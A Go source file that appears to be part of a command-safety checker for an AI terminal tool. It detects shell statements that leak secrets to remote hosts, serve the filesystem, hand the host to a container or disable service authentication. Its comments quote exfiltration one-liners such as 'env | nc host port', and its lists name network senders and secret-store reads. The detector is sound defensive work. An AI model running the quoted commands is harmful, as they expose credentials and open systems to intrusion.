package danger

import (
	"net/netip"
	"regexp"
	"strings"

	"github.com/mcp-terminal/mcp-terminal/security/internal/shell"
	"mvdan.cc/sh/v3/syntax"
)

// Statement-level exposure: a secret fed to a network sender through stdin
// (nc host 9001 < ~/.aws/credentials) or a pipeline (cat .env | curl -d @- …,
// env | nc host port), a file server started in / or a home after cd, and
// authentication switched off in a service's configuration file.

// netSendersExpose send their stdin to another host.
var netSendersExpose = shell.Set("nc", "ncat", "netcat", "socat", "curl", "wget", "ssh", "telnet", "openssl", "pastebinit", "http", "https", "xh", "sftp",
	"mail", "mailx", "s-nail", "mutt", "sendmail") // mail sends it to whoever it names

// dbDumpers write a whole database to stdout; rawSenders send stdin to a
// host or URL (ssh is left out: a dump piped to ssh is the usual backup).
var (
	dbDumpers  = shell.Set("pg_dump", "pg_dumpall", "mysqldump", "mariadb-dump", "mongodump")
	rawSenders = shell.Set("nc", "ncat", "netcat", "socat", "curl", "wget", "telnet", "openssl", "pastebinit", "http", "https", "xh")
)

// envDumpers print the whole environment (tokens included).
var envDumpers = shell.Set("env", "printenv", "export", "set", "declare")

func checkExposeStmt(s *syntax.Stmt) Verdict {
	switch cmd := s.Cmd.(type) {
	case *syntax.CallExpr:
		c, ok := shell.BuildCommand(cmd)
		if !ok {
			return Verdict{}
		}
		if netSendersExpose[c.Name] && stdinSecret(s.Redirs) || putsSecret(c, s.Redirs) {
			return hit("expose-secret")
		}
		if v := checkHostRootContainer(c); v.Dangerous {
			return v
		}
		return checkAuthConfigWrite(s, c, nil)
	case *syntax.BinaryCmd:
		switch cmd.Op {
		case syntax.Pipe, syntax.PipeAll:
			return checkPipeExpose(shell.Pipeline(cmd))
		case syntax.AndStmt, syntax.OrStmt:
			return checkCdServe(cmd)
		}
	}
	return Verdict{}
}

func stdinSecret(rs []*syntax.Redirect) bool {
	for _, r := range rs {
		if r != nil && (r.Op == syntax.RdrIn || r.Op == syntax.RdrInOut) && secretPath(shell.ResolveWord(r.Word).S) {
			return true
		}
	}
	return false
}

// checkPipeExpose: a stage reading a secret (or dumping the environment)
// before a stage sending to another host.
func checkPipeExpose(stages []*syntax.Stmt) Verdict {
	reads, dumps := false, false
	var said []string
	for _, st := range stages {
		call, ok := st.Cmd.(*syntax.CallExpr)
		if !ok {
			continue
		}
		c, ok := shell.BuildCommand(call)
		if !ok {
			continue
		}
		if reads && netSendersExpose[c.Name] && (len(c.Args) > 1 || c.Name == "pastebinit") {
			return hit("expose-secret")
		}
		if dumps && (rawSenders[c.Name] && (len(c.Args) > 1 || c.Name == "pastebinit") || c.Name == "ssh" && sshToPublicIP(c)) {
			return hit("expose-secret")
		}
		if (reads || dumps) && sendsStdin(c) {
			return hit("expose-secret") // an interpreter whose code sends its stdin: env | python3 -c '…urlopen(u, sys.stdin…)'
		}
		dumps = dumps || dbDumpers[c.Name] || storeDump(c) || archivesEvidence(c) || archivesPrivate(c)
		if v := checkAuthConfigWrite(st, c, said); v.Dangerous {
			return v
		}
		exportsKeys := (c.Name == "gpg" || c.Name == "gpg2") && (hasWord(c.Args, "--export-secret-keys") || hasWord(c.Args, "--export-secret-subkeys"))
		if (envDumpers[c.Name] && len(c.Args) == 1) || stdinSecret(st.Redirs) || readsSecretArg(c) || exportsKeys || readsSecretStore(c) || storeSecretRead(c) {
			reads = true
		}
		if c.Name == "echo" || c.Name == "printf" {
			said = append(said, shell.Lits(c.Args[1:])...)
		}
	}
	return Verdict{}
}

// secretStoreReads are the commands that print a secret from a secret
// store, as "<program> <words…>" prefixes of their operands.
var secretStoreReads = []string{"kubectl get secret", "kubectl get secrets", "oc get secret", "aws secretsmanager get-secret-value",
	"aws ssm get-parameter", "aws ssm get-parameters", "gcloud secrets versions access", "az keyvault secret show", "vault kv get",
	"vault read", "op read", "op item get", "pass show", "doppler secrets", "heroku config", "gh auth token", "security find-generic-password",
	// a scheduler's connections carry the passwords and keys of every system its DAGs reach
	"airflow connections export", "airflow connections get", "airflow variables export", "databricks secrets get-secret",
	// a hosting platform's environment: the production app's database URL, API keys and signing secrets
	"heroku config:get", "vercel env pull", "netlify env:get", "netlify env:list", "firebase functions:secrets:access",
	"railway variables",
	// an IaC state holds every generated password and key of the stack in clear (platform_target.go)
	"terraform state pull", "tofu state pull", "terragrunt state pull", "terraform show -json", "pulumi stack export --show-secrets",
	// backup tools: every remote's access keys, a repository's key (to stdout), a bearer link to an object
	"rclone config show", "rclone config dump", "borg key export", "aws s3 presign"}

// readsSecretStore: c prints a secret from a store (kubectl get secret,
// aws secretsmanager get-secret-value, vault kv get, op read).
func readsSecretStore(c shell.Command) bool {
	words := c.Name + " " + strings.Join(shell.Lits(shell.ParseOpts(withoutOptions(c.Args[1:], secretStoreValueOpts), "").Operands), " ") + showSecrets(c)
	for _, p := range secretStoreReads {
		if strings.HasPrefix(words+" ", p+" ") {
			return true
		}
	}
	return false
}

var secretStoreValueOpts = shell.Set("-n", "--namespace", "--context", "--profile", "--region", "-o", "--output", "--project", "-s", "--stack")

// sshToPublicIP: ssh to a literal public address (someone@203.0.113.40),
// not a named or private backup host.
func sshToPublicIP(c shell.Command) bool {
	ops := shell.ParseOpts(c.Args[1:], "BbcDEeFIiJLlmOopQRSWw").Operands
	if len(ops) == 0 {
		return false
	}
	host := ops[0].S[strings.LastIndex(ops[0].S, "@")+1:]
	ip, err := netip.ParseAddr(host)
	return err == nil && !ip.IsPrivate() && !ip.IsLoopback() && !ip.IsLinkLocalUnicast()
}

// readsSecretArg: c names a secret among its operands (cat ~/.ssh/id_rsa,
// tar czf - ~/.aws, base64 .env). Searching a secret (grep) is not reading it out.
func readsSecretArg(c shell.Command) bool {
	switch c.Name {
	case "grep", "egrep", "rg", "wc", "stat", "ls", "file", "sha256sum", "md5sum", "ssh-keygen":
		return false
	}
	for _, a := range shell.Lits(c.Args[1:]) {
		if secretPath(a) {
			return true
		}
	}
	return false
}

// checkCdServe: cd / && python3 -m http.server.
func checkCdServe(b *syntax.BinaryCmd) Verdict {
	cwd := ""
	var walk func(s *syntax.Stmt) bool
	walk = func(s *syntax.Stmt) bool {
		if s == nil {
			return false
		}
		switch x := s.Cmd.(type) {
		case *syntax.BinaryCmd:
			if x.Op == syntax.AndStmt || x.Op == syntax.OrStmt {
				return walk(x.X) || walk(x.Y)
			}
		case *syntax.CallExpr:
			c, ok := shell.BuildCommand(x)
			if !ok {
				return false
			}
			if c.Name == "cd" || c.Name == "pushd" {
				cwd = "~"
				if len(c.Args) > 1 {
					cwd = c.Args[len(c.Args)-1].S
				}
				return false
			}
			return cwd != "" && servesExposedDir(c, cwd)
		}
		return false
	}
	if walk(&syntax.Stmt{Cmd: b}) {
		return hit("serve-filesystem")
	}
	return Verdict{}
}

// checkHostRootContainer: docker run -v /:/host (or --privileged --pid=host)
// hands the whole host to the container.
func checkHostRootContainer(c shell.Command) Verdict {
	switch c.Name {
	case "docker", "podman", "nerdctl":
	default:
		return Verdict{}
	}
	ops := shell.Lits(shell.ParseOpts(c.Args[1:], "").Operands)
	if len(ops) == 0 || ops[0] != "run" && ops[0] != "create" && !(ops[0] == "container" && len(ops) > 1 && (ops[1] == "run" || ops[1] == "create")) {
		return Verdict{}
	}
	for _, v := range optValues(c.Args[1:], "v", "volume", "mount") {
		src := strings.SplitN(v.S, ":", 2)[0]
		if strings.Contains(v.S, "source=/,") || strings.Contains(v.S, "src=/,") || src == "/" && strings.Contains(v.S, ":") {
			return hit("host-root-container")
		}
	}
	args := shell.Lits(c.Args[1:])
	// the Docker socket mounted into a container that publishes a port on
	// every address: the daemon's API (root on the host) with no authentication
	if mountsDockerSocket(c) && publishesOpenly(c) && (strings.Contains(strings.Join(args, " "), "UNIX-CONNECT:") || publishesDockerAPI(c)) {
		return hit("auth-disabled")
	}
	priv := contains(args, "--privileged")
	pidHost := contains(args, "--pid=host") || strings.Contains(strings.Join(args, " "), "--pid host")
	return hitIf(priv && pidHost, "host-root-container")
}

// authOff: for each service's configuration file, the text that switches
// its authentication off (pg_hba.conf trust, sshd empty passwords, redis
// without a password: requirepass empty or commented out, protected-mode no,
// MongoDB's authorization: disabled, MySQL's skip-grant-tables, X-Pack
// security off).
var authOff = []struct{ file, line *regexp.Regexp }{
	{regexp.MustCompile(`pg_hba\.conf$`), regexp.MustCompile(`\btrust\b`)},
	{regexp.MustCompile(`sshd_config(?:\.d/.*)?$`), regexp.MustCompile(`PermitEmptyPasswords\s+yes`)},
	{regexp.MustCompile(`redis(?:-server)?\.conf$|valkey\.conf$`), regexp.MustCompile(`requirepass\s+(?:""|''|$)|^\s*#\s*requirepass\b|protected-mode\s+no\b`)},
	{regexp.MustCompile(`mongod\.conf$`), regexp.MustCompile(`authorization:\s*["']?disabled`)},
	{regexp.MustCompile(`(?:my|mysqld|mariadb|server)\.cnf$`), regexp.MustCompile(`skip[-_]grant[-_]tables`)},
	{regexp.MustCompile(`elasticsearch\.yml$|opensearch\.yml$`), regexp.MustCompile(`xpack\.security\.enabled:\s*false|plugins\.security\.disabled:\s*true`)},
}

var sedBackref = regexp.MustCompile(`\\[0-9&]`)

// authConfig: the authOff entry for path, or -1.
func authConfig(path string) int {
	for i, a := range authOff {
		if a.file.MatchString(path) {
			return i
		}
	}
	return -1
}

// checkAuthConfigWrite: echo 'host all all 0.0.0.0/0 trust' >> pg_hba.conf,
// sed -i 's/md5/trust/' pg_hba.conf, … | tee -a pg_hba.conf (pipe holds the
// writer when the text comes from an earlier stage).
func checkAuthConfigWrite(s *syntax.Stmt, c shell.Command, text []string) Verdict {
	target := ""
	for _, r := range s.Redirs {
		if r != nil && shell.WriteOps[r.Op] {
			target = shell.ResolveWord(r.Word).S
		}
	}
	args := shell.Lits(c.Args[1:])
	switch c.Name {
	case "tee":
		for _, a := range args {
			if authConfig(a) >= 0 {
				target = a
			}
		}
	case "sed", "perl":
		if contains(args, "-i") || strings.Contains(strings.Join(args, " "), " -i") || strings.HasPrefix(strings.Join(args, " "), "-i") {
			for _, a := range args {
				if authConfig(a) >= 0 {
					target = a
				}
			}
			text = append(text, sedReplacements(args)...)
		}
	default:
		text = append(text, args...)
	}
	i := authConfig(target)
	if i < 0 {
		return Verdict{}
	}
	for _, t := range text {
		t = sedBackref.ReplaceAllString(t, " ") // s/…md5$/\1\2trust/: the groups kept around the new word
		if authOff[i].line.MatchString(t) {
			return hit("auth-disabled")
		}
	}
	return Verdict{}
}

// sedReplacements are the replacement parts of sed's s commands (what is
// written, not what is searched for); other arguments are kept whole.
func sedReplacements(args []string) []string {
	var out []string
	for _, a := range args {
		if len(a) > 3 && a[0] == 's' && !strings.ContainsAny(a[1:2], "a-zA-Z0-9 ") {
			if parts := strings.Split(a, a[1:2]); len(parts) >= 3 {
				out = append(out, parts[2])
				continue
			}
		}
		if !strings.HasPrefix(a, "-") {
			out = append(out, a)
		}
	}
	return out
}

func mountsDockerSocket(c shell.Command) bool {
	for _, v := range optValues(c.Args[1:], "v", "volume", "mount") {
		if strings.Contains(v.S, "docker.sock") {
			return true
		}
	}
	return false
}

// publishesOpenly: -p PORT:PORT or -p 0.0.0.0:…, not bound to loopback.
func publishesOpenly(c shell.Command) bool {
	for _, p := range optValues(c.Args[1:], "p", "publish") {
		if !strings.HasPrefix(p.S, "127.") && !strings.HasPrefix(p.S, "localhost:") && !strings.HasPrefix(p.S, "[::1]") {
			return true
		}
	}
	return false
}

// publishesDockerAPI: the Docker API's own ports (2375, 2376) published.
func publishesDockerAPI(c shell.Command) bool {
	for _, p := range optValues(c.Args[1:], "p", "publish") {
		if strings.Contains(p.S, "2375") || strings.Contains(p.S, "2376") {
			return true
		}
	}
	return false
}
